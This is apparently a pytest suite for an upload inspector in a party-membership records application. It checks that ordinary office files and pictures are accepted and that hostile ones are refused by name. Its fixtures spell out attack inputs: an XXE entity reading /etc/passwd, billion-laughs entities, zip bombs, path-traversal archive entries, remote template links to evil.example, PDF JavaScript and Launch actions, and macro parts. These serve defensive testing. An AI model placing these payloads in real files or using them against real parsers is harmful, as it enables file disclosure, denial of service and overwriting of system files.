"""Files are judged by what they hold; hostile ones are refused quickly and by name."""

import io
import random
import struct
import time
import zipfile
import zlib
from contextlib import suppress

import pytest
import xlsxwriter
from docx import Document

from zhibu.core.refusal import Refused
from zhibu.record.files import MATERIAL, MAX_BYTES, PICTURES, SHEETS, inspect

TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.sheet.main+xml"/></Types>'
)


def xlsx(**parts):
    """A small workbook with parts changed or added; names have `__` for `/` and `_` before the ending."""
    whole = {"[Content_Types].xml": TYPES, "xl/workbook.xml": "<workbook/>"}
    whole.update(parts.pop("also", {}))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in whole.items():
            archive.writestr(name, content)
    return out.getvalue()


def real_xlsx():
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("党员花名册")
        for row in range(3000):
            sheet.write_row(row, 0, [row, "赵党员", "正式党员", "采矿一队党支部", 2000 + row % 25])
    return out.getvalue()


def real_docx():
    out = io.BytesIO()
    document = Document()
    document.add_paragraph("会议记录")
    document.save(out)
    return out.getvalue()


def png(width=3, height=2, tail=b""):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00\x00\x00\x00" * 2)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"") + tail


def jpeg(width=3, height=2):
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + frame
        + b"\xff\xda\x00\x08\x01\x01\x00\x00?\x00abc\xff\xd9"
    )


PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n"


def code(content, **options):
    started = time.process_time()
    with pytest.raises(Refused) as refused:
        inspect(content, **options)
    # of the processor, or a busy machine would fail it; the promise is measured by the benchmark
    assert time.process_time() - started < 2
    (only,) = refused.value.refusals
    assert only.told("zh")
    assert only.told("en")
    assert only.remedied("zh")
    return only.code


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (real_xlsx(), "xlsx"),
        (real_docx(), "docx"),
        (PDF, "pdf"),
        (png(), "png"),
        (jpeg(), "jpeg"),
        (xlsx(), "xlsx"),
    ],
)
def test_what_people_have_is_accepted(content, kind):
    found = inspect(content)
    assert (found.kind, found.size, len(found.sha256)) == (kind, len(content), 64)


def test_a_telephone_s_picture_with_data_after_it_is_accepted():
    assert inspect(jpeg() + b"MotionPhoto").kind == "jpeg"


def test_the_kind_must_be_among_those_asked_for():
    assert code(PDF, kinds=SHEETS) == "file.kind"
    assert code(real_docx(), kinds=SHEETS) == "file.kind"
    assert inspect(real_xlsx(), kinds=SHEETS).kind == "xlsx"


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "file.empty"),
        (b"x" * (MAX_BYTES + 1), "file.too_large"),
        (b"MZ\x90\x00" + b"\x00" * 200, "file.kind"),
        (b"<html><script>alert(1)</script></html>", "file.kind"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "file.kind"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "file.kind"),
        (b"PK\x03\x04 nothing", "file.broken"),
        (b"%PDF-1.4 cut off", "file.broken"),
        (PDF.replace(b"<<>>", b"<</S/JavaScript>>", 1), "file.active"),
        (PDF.replace(b"<<>>", b"<</S/Launch>>", 1), "file.active"),
        (png(width=100_000), "file.picture_too_large"),
        (png(width=0), "file.broken"),
        (png(tail=b"<script>"), "file.broken"),
        (png()[:-9], "file.broken"),
        (jpeg(width=60_000), "file.picture_too_large"),
        (jpeg()[:30], "file.broken"),
        (b"\xff\xd8\xff\xe0\x00\x01\x00", "file.broken"),
    ],
)
def test_what_is_not_what_it_must_be_is_refused(content, expected):
    assert code(content) == expected


def bomb(size):
    return xlsx(also={"xl/worksheets/sheet1.xml": b"<row></row>" * (size // 11)})


def many(count):
    return xlsx(also={f"xl/media/{n}.png": b"x" for n in range(count)})


def many_in_the_directory_only():
    """The end record claims two parts; the directory holds very many."""
    content = bytearray(many(5000))
    place = content.rfind(b"PK\x05\x06")
    content[place + 8 : place + 12] = struct.pack("<HH", 2, 2)
    return bytes(content)


def lying():
    """The directory claims a small part; unpacked it is large."""
    content = bytearray(bomb(60 * 1024 * 1024))
    place = content.find(b"PK\x01\x02", content.find(b"xl/workbook.xml") + 60)
    while content[place + 46 : place + 70] != b"xl/worksheets/sheet1.xml":
        place = content.find(b"PK\x01\x02", place + 4)
    content[place + 24 : place + 28] = struct.pack("<I", 1000)
    return bytes(content)


LAUGHS = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><workbook>&lol2;</workbook>'
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><workbook>&f;</workbook>'


REMOTE = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)


def test_a_hyperlink_out_of_a_document_is_accepted():
    assert inspect(xlsx(also={"word/_rels/document.xml.rels": REMOTE % "hyperlink"})).kind == "xlsx"


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (xlsx(also={"word/_rels/settings.xml.rels": REMOTE % "attachedTemplate"}), "file.remote"),
        (xlsx(also={"word/_rels/document.xml.rels": REMOTE % "subDocument"}), "file.remote"),
        (
            xlsx(
                also={
                    "word/_rels/a.xml.rels": '<Relationships><Relationship TargetMode="External" Target="x" '
                    'Type="http://x/oleObject"/></Relationships>'
                }
            ),
            "file.remote",
        ),
        (bomb(300 * 1024 * 1024), "file.bomb"),
        (bomb(45 * 1024 * 1024), "file.bomb"),
        (lying(), "file.broken"),
        (many(300), "file.too_many_parts"),
        (many_in_the_directory_only(), "file.too_many_parts"),
        (xlsx(also={"xl/workbook.xml": LAUGHS}), "file.doctype"),
        (xlsx(also={"xl/workbook.xml": XXE}), "file.doctype"),
        (xlsx(also={"xl/sheet.bin": XXE}), "file.doctype"),
        (xlsx(also={"xl/workbook.xml": XXE.encode("utf-16")}), "file.encoding"),
        (xlsx(also={"xl/workbook.xml": XXE.replace("?>", ' encoding="UTF-7"?>', 1)}), "file.encoding"),
        (xlsx(also={"../../etc/cron.d/x": b"x"}), "file.path"),
        (xlsx(also={"..\\..\\x": b"x"}), "file.path"),
        (xlsx(also={"/etc/passwd": b"x"}), "file.path"),
        (xlsx(also={"C:/x": b"x"}), "file.path"),
        (xlsx(also={"xl/vbaProject.bin": b"x"}), "file.macros"),
        (xlsx(also={"xl/VBAPROJECT.BIN": b"x"}), "file.macros"),
        (
            xlsx(also={"[Content_Types].xml": TYPES.replace("sheet.main", "sheet.macroEnabled.main")}),
            "file.macros",
        ),
        (xlsx(also={"[Content_Types].xml": "<Types/>"}), "file.kind"),
        (xlsx(also={"xl/workbook.xml": b"\x01\x02"}), "file.broken"),
        (
            xlsx(
                also={
                    "xl/worksheets/sheet1.xml": '<worksheet><row r="1048576"><c r="XFD1048576"/></row></worksheet>'
                }
            ),
            "file.too_many_cells",
        ),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_hostile_archives_are_refused(content, expected):
    assert code(content) == expected


def test_an_encrypted_archive_is_refused():
    content = bytearray(xlsx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        content[at + place] |= 1
    assert code(bytes(content)) == "file.locked"


def test_an_archive_of_another_kind_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.exe", b"MZ")
    assert code(out.getvalue()) == "file.kind"


@pytest.mark.parametrize(
    "original", [real_docx(), xlsx(), png(), jpeg(), PDF], ids=["docx", "xlsx", "png", "jpeg", "pdf"]
)
def test_a_damaged_file_is_accepted_or_refused_but_never_an_error(original):
    chance = random.Random(20260703)
    for _turn in range(200):
        content = bytearray(original)
        for _place in range(chance.randint(1, 12)):
            content[chance.randrange(len(content))] = chance.randrange(256)
        cut = bytes(content[: chance.randrange(len(content))]) if chance.random() < 0.3 else bytes(content)
        # whatever is raised besides fails the test
        with suppress(Refused):
            inspect(cut)


@pytest.mark.parametrize(
    ("content", "kinds", "limit", "remedy"),
    [
        (b"", PICTURES, 10, "请先打开看看文件里有没有内容，再重新选择。"),
        (b"x" * 11, PICTURES, 10, "请缩小照片，或者把文件分成几个，再上传。"),
        (b"x", PICTURES, 10, "请换一张 png 或 jpg 照片；照片打不开的，先另存为 jpg 再传。"),
        (
            b"x",
            MATERIAL,
            10,
            "请在办公软件中打开原文件，另存为不带宏的 xlsx、docx 或 pdf 后重新上传；照片请用 png 或 jpg。",
        ),
    ],
)
def test_what_to_do_fits_what_was_asked_for(content, kinds, limit, remedy):
    with pytest.raises(Refused) as refused:
        inspect(content, kinds, limit)
    assert refused.value.refusals[0].remedy.zh == remedy
